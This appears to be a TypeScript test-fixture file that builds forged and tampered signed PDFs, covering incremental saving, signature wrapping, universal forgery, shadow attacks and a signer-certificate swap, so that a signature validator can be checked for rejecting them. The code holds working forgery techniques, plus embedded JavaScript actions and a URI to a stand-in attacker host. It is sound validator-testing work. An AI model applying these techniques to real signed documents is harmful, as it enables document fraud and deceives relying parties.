/**
 * The attack corpus: signed PDFs (made by our signer) and hand-crafted manipulations of
 * them, one per known attack class on PDF signatures:
 *
 * - ISA, Incremental Saving Attacks (Mladenov et al., "1 Trillion Dollar Refund", CCS 2019):
 *   a revision appended after the signed one changes what the reader shows.
 * - SWA, Signature Wrapping: /ByteRange rewritten so the signed bytes still hash right but
 *   sit elsewhere, with attacker objects in the enlarged gap.
 * - USF, Universal Signature Forgery: a signature dictionary without (or with null, empty,
 *   degenerate) /ByteRange or /Contents.
 * - Shadow attacks (Mainka et al., NDSS 2021): hide, replace, hide-and-replace, where the
 *   signed revision already holds the attacker's content unused and a tiny update reveals it.
 * - Plain tampering: annotations added, objects deleted, garbage CMS, altered bytes, a
 *   different signer certificate.
 *
 * `naivePasses` records what the deliberately naive check in validation-fixtures.ts says:
 * for the attacks that fooled real viewers it passes, and the validator must still say
 * FAILED. Set VALIDATION_CORPUS_DIR to write every file out for inspection with other tools.
 */
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { PDFDict, PDFName, PDFRef } from '@cantoo/pdf-lib';
import { drawObject, PDFDocument, PDFName as LibName, type PDFRef as LibRef, popGraphicsState, pushGraphicsState, StandardFonts } from 'pdf-lib';
import * as pkijs from 'pkijs';
import { signPdf, type SignPdfParams } from '../../src/pades/sign-pdf.js';
import type { SubIndication } from '../../src/validation/validation-report.js';
import type { PadesFixtures } from '../pades/fixtures.js';
import { appendRevision, appendXrefStreamRevision, inspect, stream, withEntries } from './validation-fixtures.js';

export interface AttackCase {
  readonly name: string;
  readonly category: 'ISA' | 'SWA' | 'USF' | 'shadow' | 'tampering';
  readonly description: string;
  readonly pdf: Uint8Array;
  /** Whether the naive signed-revision-only check accepts it. */
  readonly naivePasses: boolean;
  /** The sub-indication our report must give (its indication is always FAILED). */
  readonly subIndication: SubIndication;
}

export async function buildAttackCorpus(f: PadesFixtures): Promise<AttackCase[]> {
  const sign = (pdf: Uint8Array, extra: Partial<SignPdfParams> = {}) =>
    signPdf({ pdf, signer: f.signer(f.seal), level: 'B-B', services: f.services, signingTime: f.now, ...extra });
  const signed = await sign(f.pdfs.classic);
  const signedObjectStreams = await sign(f.pdfs.objectStreams);
  const cases: AttackCase[] = [];
  const add = (c: AttackCase) => cases.push(c);

  // --- ISA ----------------------------------------------------------------------------
  {
    const i = await inspect(signed);
    const fontKey = fontResourceName(i.page, i.context);
    const content = i.contentRefs[0]!.objectNumber;
    add({
      name: 'isa-redefine-page-content',
      category: 'ISA',
      description: 'an update redefines the page content stream with other text',
      pdf: await appendRevision(signed, { objects: [{ num: content, body: stream(`BT /${fontKey} 24 Tf 72 760 Td (Business licence 0666) Tj ET`) }] }),
      naivePasses: true,
      subIndication: 'SIG_CONSTRAINTS_FAILURE',
    });
    const extra = i.largest + 1;
    add({
      name: 'isa-add-content-stream',
      category: 'ISA',
      description: 'an update adds a content stream drawing extra text on the page',
      pdf: await appendRevision(signed, {
        objects: [
          { num: extra, body: stream(`BT /${fontKey} 18 Tf 72 650 Td (Fee waived by the authority) Tj ET`) },
          { num: i.pageRef.objectNumber, body: withEntries(i.page, { Contents: `[${i.contentRefs.map((r) => r.toString()).join(' ')} ${extra} 0 R]` }) },
        ],
      }),
      naivePasses: true,
      subIndication: 'SIG_CONSTRAINTS_FAILURE',
    });
    add({
      name: 'isa-replace-page-object',
      category: 'ISA',
      description: 'an update replaces the page object (new media box and content)',
      pdf: await appendRevision(signed, {
        objects: [
          { num: extra, body: stream(`BT /${fontKey} 24 Tf 72 300 Td (Replaced page) Tj ET`) },
          { num: i.pageRef.objectNumber, body: withEntries(i.page, { Contents: `${extra} 0 R`, MediaBox: '[0 0 400 400]' }) },
        ],
      }),
      naivePasses: true,
      subIndication: 'SIG_CONSTRAINTS_FAILURE',
    });
    add({
      name: 'isa-change-font',
      category: 'ISA',
      description: 'an update redefines the font the page uses',
      pdf: await appendRevision(signed, { objects: [{ num: i.fontRefs[0]!.objectNumber, body: '<< /Type /Font /Subtype /Type1 /BaseFont /Courier /Encoding /WinAnsiEncoding >>' }] }),
      naivePasses: true,
      subIndication: 'SIG_CONSTRAINTS_FAILURE',
    });
    const pagesRef = i.page.get(PDFName.of('Parent')) as PDFRef;
    const pages = i.context.lookup(pagesRef) as PDFDict;
    add({
      name: 'isa-add-page',
      category: 'ISA',
      description: 'an update adds a second page',
      pdf: await appendRevision(signed, {
        objects: [
          { num: extra, body: stream(`BT /${fontKey} 24 Tf 72 760 Td (Annex: licence revoked) Tj ET`) },
          { num: extra + 1, body: `<< /Type /Page /Parent ${pagesRef.toString()} /MediaBox [0 0 595 842] /Contents ${extra} 0 R /Resources ${i.page.get(PDFName.of('Resources'))!.toString()} >>` },
          { num: pagesRef.objectNumber, body: withEntries(pages, { Kids: `[${i.pageRef.toString()} ${extra + 1} 0 R]`, Count: '2' }) },
        ],
      }),
      naivePasses: true,
      subIndication: 'SIG_CONSTRAINTS_FAILURE',
    });
    const catalog = i.context.lookup(i.catalogRef) as PDFDict;
    add({
      name: 'isa-open-action-javascript',
      category: 'ISA',
      description: 'an update adds a JavaScript /OpenAction to the catalog',
      pdf: await appendRevision(signed, { objects: [{ num: i.catalogRef.objectNumber, body: withEntries(catalog, { OpenAction: '<< /S /JavaScript /JS (app.alert\\(1\\);) >>' }) }] }),
      naivePasses: true,
      subIndication: 'SIG_CONSTRAINTS_FAILURE',
    });
    add({
      name: 'isa-names-javascript',
      category: 'ISA',
      description: 'an update adds a document-level JavaScript name tree',
      pdf: await appendRevision(signed, {
        objects: [
          { num: extra, body: '<< /Names [(init) << /S /JavaScript /JS (this.getField\\(1\\);) >>] >>' },
          { num: i.catalogRef.objectNumber, body: withEntries(catalog, { Names: `<< /JavaScript ${extra} 0 R >>` }) },
        ],
      }),
      naivePasses: true,
      subIndication: 'SIG_CONSTRAINTS_FAILURE',
    });
    add({
      name: 'isa-xref-stream-takes-content-number',
      category: 'ISA',
      description: 'an update whose cross-reference stream is numbered as the page content stream, so the page now draws the xref data',
      pdf: await appendXrefStreamRevision(signed, [], content),
      naivePasses: true,
      subIndication: 'SIG_CONSTRAINTS_FAILURE',
    });
    add({
      name: 'isa-outlines',
      category: 'ISA',
      description: 'an update adds bookmarks whose action launches a URI',
      pdf: await appendRevision(signed, {
        objects: [
          { num: extra, body: `<< /Type /Outlines /First ${extra + 1} 0 R /Last ${extra + 1} 0 R /Count 1 >>` },
          { num: extra + 1, body: `<< /Title (Pay here) /Parent ${extra} 0 R /A << /S /URI /URI (http://attacker.example/) >> >>` },
          { num: i.catalogRef.objectNumber, body: withEntries(catalog, { Outlines: `${extra} 0 R` }) },
        ],
      }),
      naivePasses: true,
      subIndication: 'SIG_CONSTRAINTS_FAILURE',
    });
  }
  {
    // The same on a file with a cross-reference stream and object streams: the page dictionary is compressed.
    const i = await inspect(signedObjectStreams);
    const fontKey = fontResourceName(i.page, i.context);
    const extra = i.largest + 1;
    add({
      name: 'isa-object-streams-page',
      category: 'ISA',
      description: 'object-stream file: an update (classic table after a stream) redefines the compressed page object',
      pdf: await appendRevision(signedObjectStreams, {
        objects: [
          { num: extra, body: stream(`BT /${fontKey} 24 Tf 72 700 Td (Amended) Tj ET`) },
          { num: i.pageRef.objectNumber, body: withEntries(i.page, { Contents: `[${i.contentRefs.map((r) => r.toString()).join(' ')} ${extra} 0 R]` }) },
        ],
      }),
      naivePasses: true,
      subIndication: 'SIG_CONSTRAINTS_FAILURE',
    });
  }

  // --- annotations, deletions -----------------------------------------------------------
  {
    const i = await inspect(signed);
    const extra = i.largest + 1;
    const annots = i.page.get(PDFName.of('Annots'));
    const existing = annots ? (i.context.lookup(annots as PDFRef) ?? annots).toString().replace(/^\[|\]$/g, '') : '';
    add({
      name: 'annotation-added',
      category: 'tampering',
      description: 'an update adds a FreeText annotation ("VOID") to the page',
      pdf: await appendRevision(signed, {
        objects: [
          { num: extra, body: `<< /Type /Annot /Subtype /FreeText /Rect [72 600 400 650] /Contents (VOID) /DA (/Helv 24 Tf 1 0 0 rg) /P ${i.pageRef.toString()} >>` },
          { num: i.pageRef.objectNumber, body: withEntries(i.page, { Annots: `[${existing} ${extra} 0 R]` }) },
        ],
      }),
      naivePasses: true,
      subIndication: 'SIG_CONSTRAINTS_FAILURE',
    });
    add({
      name: 'deleted-font',
      category: 'tampering',
      description: 'an update frees the font object the page uses (xref "f" entry)',
      pdf: await appendRevision(signed, { free: [i.fontRefs[0]!.objectNumber] }),
      naivePasses: true,
      subIndication: 'SIG_CONSTRAINTS_FAILURE',
    });
    add({
      name: 'deleted-content',
      category: 'tampering',
      description: 'an update frees the page content stream',
      pdf: await appendRevision(signed, { free: i.contentRefs.map((r) => r.objectNumber) }),
      naivePasses: true,
      subIndication: 'SIG_CONSTRAINTS_FAILURE',
    });
  }

  // --- signature dictionary and form ------------------------------------------------------
  {
    const i = await inspect(signed);
    const acroFormValue = i.doc.catalog.get(PDFName.of('AcroForm'));
    const acroForm = (acroFormValue instanceof PDFRef ? i.context.lookup(acroFormValue) : acroFormValue) as PDFDict;
    const fieldRef = (acroForm.lookup(PDFName.of('Fields')) as unknown as { get(i: number): PDFRef }).get(0);
    const field = i.context.lookup(fieldRef) as PDFDict;
    const sigRef = field.get(PDFName.of('V')) as PDFRef;
    const sig = i.context.lookup(sigRef) as PDFDict;
    add({
      name: 'signature-dictionary-redefined',
      category: 'shadow',
      description: 'an update redefines the signature dictionary (same /ByteRange and /Contents, new /Reason and /M)',
      pdf: await appendRevision(signed, { objects: [{ num: sigRef.objectNumber, body: withEntries(sig, { Reason: '(Approved by the director)', M: "(D:20300101000000+00'00')" }) }] }),
      naivePasses: true,
      subIndication: 'FORMAT_FAILURE',
    });
    const catalog = i.context.lookup(i.catalogRef) as PDFDict;
    const strippedForm = `<< /Fields [] /SigFlags 3 >>`;
    add({
      name: 'signature-removed',
      category: 'tampering',
      description: 'an update removes the signature field from the form and the page, then changes the content',
      pdf: await appendRevision(signed, {
        objects: [
          { num: i.catalogRef.objectNumber, body: withEntries(catalog, { AcroForm: strippedForm }) },
          { num: i.pageRef.objectNumber, body: withEntries(i.page, { Annots: '[]' }) },
          ...(acroFormValue instanceof PDFRef ? [{ num: acroFormValue.objectNumber, body: strippedForm }] : []),
        ],
      }),
      naivePasses: false,
      subIndication: 'SIG_CONSTRAINTS_FAILURE',
    });
  }

  // --- SWA ----------------------------------------------------------------------------------
  add({ ...(await signatureWrapping(signed)), name: 'swa-relocated-signed-part', category: 'SWA', naivePasses: true, subIndication: 'FORMAT_FAILURE' });

  // --- USF ----------------------------------------------------------------------------------
  for (const variant of await universalForgeries(f.pdfs.classic, signed)) add({ ...variant, category: 'USF', naivePasses: false, subIndication: 'FORMAT_FAILURE' });

  // --- Shadow attacks -------------------------------------------------------------------------
  for (const shadow of await shadowAttacks(f, sign)) add({ ...shadow, category: 'shadow', naivePasses: true, subIndication: 'SIG_CONSTRAINTS_FAILURE' });

  // --- CMS tampering --------------------------------------------------------------------------
  const [, a, b] = byteRangeOf(signed);
  {
    const garbage = Buffer.from(signed);
    const random = Buffer.from(Array.from({ length: (b - a - 2) / 2 }, (_, k) => (k * 7919 + 13) % 256)).toString('hex');
    garbage.write(random, a + 1, 'latin1');
    add({ name: 'garbage-cms', category: 'tampering', description: '/Contents replaced with garbage of the same length', pdf: garbage, naivePasses: false, subIndication: 'FORMAT_FAILURE' });
  }
  {
    const altered = Buffer.from(signed);
    const at = Buffer.from(signed).indexOf('/MediaBox');
    altered.write('/MediaBoy', at, 'latin1');
    add({ name: 'bad-digest', category: 'tampering', description: 'one signed byte changed inside the signed revision', pdf: altered, naivePasses: false, subIndication: 'HASH_FAILURE' });
  }
  {
    // A byte inside the first DSS stream: after the signature's revision, under the document time-stamp.
    const lta = await sign(f.pdfs.classic, { level: 'B-LTA' });
    const [, , b, c] = byteRangeOf(lta);
    const altered = Buffer.from(lta);
    const flip = altered.indexOf('stream\n', b + c) + 'stream\n'.length + 20;
    altered[flip] = altered[flip]! ^ 0xff;
    add({
      name: 'document-timestamp-altered',
      category: 'tampering',
      description: 'one byte changed in the DSS revision that a document time-stamp covers',
      pdf: altered,
      naivePasses: false,
      subIndication: 'HASH_FAILURE',
    });
  }
  add({
    name: 'wrong-signer-certificate',
    category: 'tampering',
    description: 'the CMS names another (valid, trusted) seal certificate as the signer',
    pdf: replaceSigner(signed, f.seal2.der),
    naivePasses: true,
    subIndication: 'SIG_CRYPTO_FAILURE',
  });

  if (process.env.VALIDATION_CORPUS_DIR) {
    await mkdir(process.env.VALIDATION_CORPUS_DIR, { recursive: true });
    for (const c of cases) await writeFile(path.join(process.env.VALIDATION_CORPUS_DIR, `${c.name}.pdf`), c.pdf);
  }
  return cases;
}

function fontResourceName(page: PDFDict, context: { lookup(ref: PDFRef): unknown }): string {
  const resources = page.get(PDFName.of('Resources'));
  const dict = (resources instanceof PDFRef ? context.lookup(resources) : resources) as PDFDict;
  const fonts = dict.get(PDFName.of('Font'));
  const fontDict = (fonts instanceof PDFRef ? context.lookup(fonts) : fonts) as PDFDict;
  return fontDict.keys()[0]!.decodeText();
}

export function byteRangeOf(pdf: Uint8Array): [number, number, number, number] {
  const match = /\/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]/.exec(Buffer.from(pdf).toString('latin1'));
  if (!match) throw new Error('no /ByteRange');
  return match.slice(1, 5).map(Number) as [number, number, number, number];
}

/** Object number → offset, from the classic cross-reference tables (newest wins). */
function classicOffsets(pdf: Uint8Array): { offsets: Map<number, number>; size: number; root: string } {
  const text = Buffer.from(pdf).toString('latin1');
  const offsets = new Map<number, number>();
  let at = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(text)![1]);
  let size = 0;
  let root = '';
  for (;;) {
    const section = text.slice(at);
    const trailerAt = section.indexOf('trailer');
    const lines = section.slice(4, trailerAt).trim().split(/\r?\n/);
    let first = 0;
    let k = 0;
    for (const line of lines) {
      const parts = line.trim().split(/\s+/);
      if (parts.length === 2) {
        first = Number(parts[0]);
        k = 0;
      } else if (parts.length === 3) {
        const num = first + k++;
        if (parts[2] === 'n' && !offsets.has(num)) offsets.set(num, Number(parts[0]));
      }
    }
    const trailer = section.slice(trailerAt, section.indexOf('>>', trailerAt));
    size = Math.max(size, Number(/\/Size (\d+)/.exec(trailer)![1]));
    root ||= /\/Root (\d+ \d+ R)/.exec(trailer)![1]!;
    const prev = /\/Prev (\d+)/.exec(trailer);
    if (!prev) break;
    at = Number(prev[1]);
  }
  return { offsets, size, root };
}

/**
 * SWA: F' = P1 ‖ gap' ‖ P2 ‖ table, where gap' = the original /Contents, then a redefined
 * page content and signature dictionary with /ByteRange [0 a b' c], and P2 is moved to b'.
 * The hashed bytes are still P1 ‖ P2; a complete new cross-reference table at the end
 * points at the attacker's objects in the gap and at P1's and P2's objects where they now are.
 */
async function signatureWrapping(signed: Uint8Array): Promise<{ description: string; pdf: Uint8Array }> {
  const [, a, b, c] = byteRangeOf(signed);
  const { offsets, size, root } = classicOffsets(signed);
  const i = await inspect(signed);
  const fontKey = fontResourceName(i.page, i.context);
  const contentNum = i.contentRefs[0]!.objectNumber;
  const text = Buffer.from(signed).toString('latin1');
  const sigNum = Number(/(\d+) 0 obj\s*<< \/Type \/Sig/.exec(text)![1]);
  const contentsHex = text.slice(a + 1, b - 1);

  const p1 = Buffer.from(signed.subarray(0, a));
  const p2 = Buffer.from(signed.subarray(b, b + c));
  let gap = `<${contentsHex}>\n`;
  const inGap = new Map<number, number>();
  const put = (num: number, body: string) => {
    inGap.set(num, a + gap.length);
    gap += `${num} 0 obj\n${body}\nendobj\n`;
  };
  put(contentNum, stream(`BT /${fontKey} 24 Tf 72 760 Td (Business licence 9999) Tj ET`));
  // b' is known once the gap is complete; the dictionary is written with a fixed-width placeholder.
  const placeholder = '[0 0000000000 0000000000 0000000000]';
  put(sigNum, `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange ${placeholder} /Contents <${contentsHex}> >>`);
  gap += '%>';
  const bPrime = a + gap.length;
  const range = `[0 ${a} ${bPrime} ${c}]`.padEnd(placeholder.length, ' ');
  gap = gap.replace(placeholder, range);

  const shift = bPrime - b;
  const entries: string[] = [];
  for (let num = 0; num < size; num++) {
    const inserted = inGap.get(num);
    const original = offsets.get(num);
    const offset = inserted ?? (original === undefined ? undefined : original < a ? original : original + shift);
    entries.push(offset === undefined ? '0000000000 65535 f\r\n' : `${String(offset).padStart(10, '0')} 00000 n\r\n`);
  }
  const xrefAt = bPrime + p2.length;
  const table = `xref\n0 ${size}\n${entries.join('')}trailer\n<< /Size ${size} /Root ${root} >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return {
    description: 'signed part 2 moved; the gap holds the original /Contents plus a new page content and a signature dictionary with a rewritten /ByteRange; a new table points at them',
    pdf: Buffer.concat([p1, Buffer.from(gap, 'latin1'), p2, Buffer.from(table, 'latin1')]),
  };
}

const PLACEHOLDER = '[0 0000000000 0000000000 0000000000]';

/** Fills a /ByteRange placeholder with ranges ending at the file's end, around `<>` when there is one, else around 10 bytes of the dictionary. */
function plausibleByteRange(pdf: Uint8Array): Uint8Array {
  const out = Buffer.from(pdf);
  const text = out.toString('latin1');
  const at = text.indexOf(PLACEHOLDER);
  if (at < 0) return out;
  const empty = text.indexOf('/Contents <>', at);
  const a = empty >= 0 ? empty + '/Contents '.length : at;
  const b = a + (empty >= 0 ? 2 : 10);
  out.write(`[0 ${a} ${b} ${out.length - b}]`.padEnd(PLACEHOLDER.length, ' '), at, 'latin1');
  return out;
}

/** USF: a signature field whose dictionary lacks a usable /ByteRange or /Contents (CMS taken from a real signature). */
async function universalForgeries(unsigned: Uint8Array, donor: Uint8Array): Promise<{ name: string; description: string; pdf: Uint8Array }[]> {
  const [, a, b] = byteRangeOf(donor);
  const cmsHex = Buffer.from(donor).toString('latin1').slice(a + 1, b - 1);
  const i = await inspect(unsigned);
  const catalog = i.context.lookup(i.catalogRef) as PDFDict;
  const [field, sig] = [i.largest + 1, i.largest + 2];
  const variants: [string, string, string][] = [
    ['usf-missing-byterange', 'no /ByteRange', `/Contents <${cmsHex}>`],
    ['usf-null-byterange', '/ByteRange null', `/ByteRange null /Contents <${cmsHex}>`],
    ['usf-empty-byterange', '/ByteRange []', `/ByteRange [] /Contents <${cmsHex}>`],
    ['usf-zero-byterange', '/ByteRange [0 0 0 0]', `/ByteRange [0 0 0 0] /Contents <${cmsHex}>`],
    ['usf-missing-contents', 'no /Contents (and a /ByteRange around nothing)', `/ByteRange ${PLACEHOLDER}`],
    ['usf-null-contents', '/Contents null', `/ByteRange ${PLACEHOLDER} /Contents null`],
    ['usf-empty-contents', '/Contents <> (with a /ByteRange around exactly it)', `/ByteRange ${PLACEHOLDER} /Contents <>`],
    ['usf-byterange-beyond-file', '/ByteRange beyond the end of the file', `/ByteRange [0 10 20 99999999] /Contents <${cmsHex}>`],
  ];
  const out: { name: string; description: string; pdf: Uint8Array }[] = [];
  for (const [name, what, entries] of variants) {
    const pdf = await appendRevision(unsigned, {
        objects: [
          { num: field, body: `<< /Type /Annot /Subtype /Widget /FT /Sig /T (Seal1) /Rect [0 0 0 0] /F 132 /P ${i.pageRef.toString()} /V ${sig} 0 R >>` },
          { num: sig, body: `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached ${entries} >>` },
          { num: i.catalogRef.objectNumber, body: withEntries(catalog, { AcroForm: `<< /Fields [${field} 0 R] /SigFlags 3 >>` }) },
          { num: i.pageRef.objectNumber, body: withEntries(i.page, { Annots: `[${field} 0 R]` }) },
        ],
    });
    out.push({ name, description: `a signature field whose dictionary has ${what}`, pdf: plausibleByteRange(pdf) });
  }
  return out;
}

/** The shadow attacks of Mainka et al.: the signed revision already carries the attacker's content. */
async function shadowAttacks(f: PadesFixtures, sign: (pdf: Uint8Array) => Promise<Uint8Array>): Promise<{ name: string; description: string; pdf: Uint8Array }[]> {
  const out: { name: string; description: string; pdf: Uint8Array }[] = [];
  const A4: [number, number] = [595.28, 841.89];

  // Hide: the text under a white overlay XObject is signed; the update empties the overlay.
  {
    const doc = await PDFDocument.create({ updateMetadata: false });
    const font = await doc.embedFont(StandardFonts.Helvetica);
    const page = doc.addPage(A4);
    page.drawText('Amount due: 1,000,000 CNY', { x: 72, y: 700, size: 24, font });
    const overlay = doc.context.register(
      doc.context.stream('1 1 1 rg 60 680 480 60 re f 0 0 0 rg BT /F1 24 Tf 72 700 Td (Amount due: 100 CNY) Tj ET', {
        Type: 'XObject',
        Subtype: 'Form',
        BBox: [0, 0, A4[0], A4[1]],
        Resources: { Font: { F1: font.ref } },
      }),
    );
    page.pushOperators(pushGraphicsState(), drawObject(page.node.newXObject('Overlay', overlay)), popGraphicsState());
    const signed = await sign(await doc.save({ useObjectStreams: false }));
    out.push({
      name: 'shadow-hide-overlay',
      description: 'hide: a signed white overlay XObject covers text; the update redefines the overlay as empty, revealing the text',
      pdf: await appendRevision(signed, { objects: [{ num: overlay.objectNumber, body: stream('', '/Type /XObject /Subtype /Form /BBox [0 0 0 0]') }] }),
    });
  }

  // Replace: the signed font is redefined with a /Differences encoding that swaps digits.
  {
    const signed = await sign(f.pdfs.classic);
    const i = await inspect(signed);
    out.push({
      name: 'shadow-replace-font-encoding',
      description: 'replace: the update overwrites the font with an encoding that draws "1" as "9"',
      pdf: await appendRevision(signed, {
        objects: [{ num: i.fontRefs[0]!.objectNumber, body: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [49 /nine] >> >>' }],
      }),
    });
  }

  // Hide-and-replace, catalog switch: a complete second document (catalog, pages, content) is
  // signed but unused; the update is only a cross-reference table whose trailer names it.
  {
    const doc = await PDFDocument.create({ updateMetadata: false });
    const font = await doc.embedFont(StandardFonts.Helvetica);
    const page = doc.addPage(A4);
    page.drawText('Licence holder: Alice', { x: 72, y: 700, size: 24, font });
    doc.getForm(); // an indirect AcroForm both catalogs share, so the signature shows in both
    const context = doc.context;
    const acroForm = doc.catalog.get(LibName.of('AcroForm'))!;
    const content = context.register(context.stream('BT /F1 24 Tf 72 700 Td (Licence holder: Mallory) Tj ET'));
    const pagesRef = context.nextRef();
    const shadowPage = context.register(context.obj({ Type: 'Page', Parent: pagesRef, MediaBox: [0, 0, A4[0], A4[1]], Contents: content, Resources: { Font: { F1: font.ref } } }));
    context.assign(pagesRef, context.obj({ Type: 'Pages', Kids: [shadowPage], Count: 1 }));
    const shadowCatalog = context.register(context.obj({ Type: 'Catalog', Pages: pagesRef, AcroForm: acroForm }));
    const signed = await sign(await doc.save({ useObjectStreams: false }));
    out.push({
      name: 'shadow-hide-and-replace-catalog',
      description: 'hide-and-replace: a whole second document is signed unused; the update is only a table whose trailer /Root names it',
      pdf: await appendRevision(signed, { root: shadowCatalog.objectNumber }),
    });
  }

  // Hide-and-replace, object re-pointing: the signed revision holds a second, unreferenced
  // definition of the page object; the update only re-points the page's xref entry at it.
  {
    const doc = await PDFDocument.create({ updateMetadata: false });
    const font = await doc.embedFont(StandardFonts.Helvetica);
    const page = doc.addPage(A4);
    page.drawText('Permitted activity: retail', { x: 72, y: 700, size: 24, font });
    const hiddenContent = doc.context.register(doc.context.stream('BT /F1 24 Tf 72 700 Td (Permitted activity: anything) Tj ET'));
    const base = Buffer.from(await doc.save({ useObjectStreams: false }));
    const pageNum = page.ref.objectNumber;
    const duplicate = `${pageNum} 0 obj\n<< /Type /Page /Parent ${(page.node.get(LibName.of('Parent')) as LibRef).toString()} /MediaBox [0 0 ${A4[0]} ${A4[1]}] /Contents ${hiddenContent.toString()} /Resources << /Font << /F1 ${font.ref.toString()} >> >> >>\nendobj\n`;
    // Before the original definition: a reader that parses objects in file order (pdf-lib,
    // which our signer uses) keeps the last one, so the signer itself still sees the real page.
    const { pdf: withDuplicate, insertedAt } = insertAfterHeader(base, duplicate);
    const signed = await sign(withDuplicate);
    out.push({
      name: 'shadow-hide-and-replace-repoint',
      description: 'hide-and-replace: a second definition of the page object is signed but unreferenced; the update only re-points the xref entry at it',
      pdf: await appendRevision(signed, { pointers: [{ num: pageNum, offset: insertedAt }] }),
    });
  }
  return out;
}

/** Inserts `text` after the two header lines of a classic-table PDF, shifting the table's offsets. */
function insertAfterHeader(pdf: Buffer, text: string): { pdf: Buffer; insertedAt: number } {
  const source = pdf.toString('latin1');
  const insertedAt = source.indexOf('\n', source.indexOf('\n') + 1) + 1;
  const shift = Buffer.byteLength(text, 'latin1');
  const shifted = source
    .slice(insertedAt)
    .replace(/^(\d{10}) (\d{5}) n/gm, (_, offset: string, gen: string) => `${String(Number(offset) + shift).padStart(10, '0')} ${gen} n`)
    .replace(/startxref\s+(\d+)/, (_, offset: string) => `startxref\n${Number(offset) + shift}`);
  return { pdf: Buffer.concat([pdf.subarray(0, insertedAt), Buffer.from(text, 'latin1'), Buffer.from(shifted, 'latin1')]), insertedAt };
}

/**
 * The CMS of `signed` with the signer certificate swapped for `other` (also as the
 * SignerInfo's issuerAndSerialNumber), re-encoded and written into the same hole.
 */
function replaceSigner(signed: Uint8Array, other: Uint8Array): Uint8Array {
  const [, a, b] = byteRangeOf(signed);
  const hex = Buffer.from(signed).toString('latin1').slice(a + 1, b - 1);
  const der = Buffer.from(hex, 'hex');
  const info = pkijs.ContentInfo.fromBER(new Uint8Array(der).buffer);
  const signedData = new pkijs.SignedData({ schema: info.content });
  const replacement = pkijs.Certificate.fromBER(new Uint8Array(other).buffer);
  signedData.certificates = [replacement, ...(signedData.certificates ?? []).slice(1)];
  signedData.signerInfos[0]!.sid = new pkijs.IssuerAndSerialNumber({ issuer: replacement.issuer, serialNumber: replacement.serialNumber });
  const encoded = Buffer.from(new pkijs.ContentInfo({ contentType: '1.2.840.113549.1.7.2', content: signedData.toSchema(true) }).toSchema().toBER());
  if (encoded.length * 2 > hex.length) throw new Error('the re-encoded CMS does not fit');
  const out = Buffer.from(signed);
  out.write(encoded.toString('hex').padEnd(hex.length, '0'), a + 1, 'latin1');
  return out;
}

/**
 * A PDF whose page object is defined twice: readers follow the cross-reference table and show
 * "Permitted activity: retail"; pdf-lib keeps the later definition ("anything"), which is what
 * a signer built on it would seal.
 */
export async function pageDefinedTwicePdf(): Promise<Buffer> {
  const doc = await PDFDocument.create({ updateMetadata: false });
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595, 842]);
  page.drawText('Permitted activity: retail', { x: 72, y: 700, size: 24, font });
  const hidden = doc.context.register(doc.context.stream('BT /F1 24 Tf 72 700 Td (Permitted activity: anything) Tj ET'));
  const base = Buffer.from(await doc.save({ useObjectStreams: false }));
  // A second definition of the page object after the first, not in the cross-reference table.
  const duplicate = `${page.ref.objectNumber} 0 obj\n<< /Type /Page /Parent ${page.node.get(LibName.of('Parent'))!.toString()} /MediaBox [0 0 595 842] /Contents ${hidden.toString()} /Resources << /Font << /F1 ${font.ref.toString()} >> >> >>\nendobj\n`;
  const source = base.toString('latin1');
  const xrefAt = source.lastIndexOf('\nxref\n') + 1;
  const startxref = Number(/startxref\s+(\d+)/.exec(source.slice(xrefAt))![1]);
  return Buffer.concat([
    base.subarray(0, xrefAt),
    Buffer.from(duplicate, 'latin1'),
    Buffer.from(source.slice(xrefAt).replace(`startxref\n${startxref}`, `startxref\n${startxref + duplicate.length}`), 'latin1'),
  ]);
}
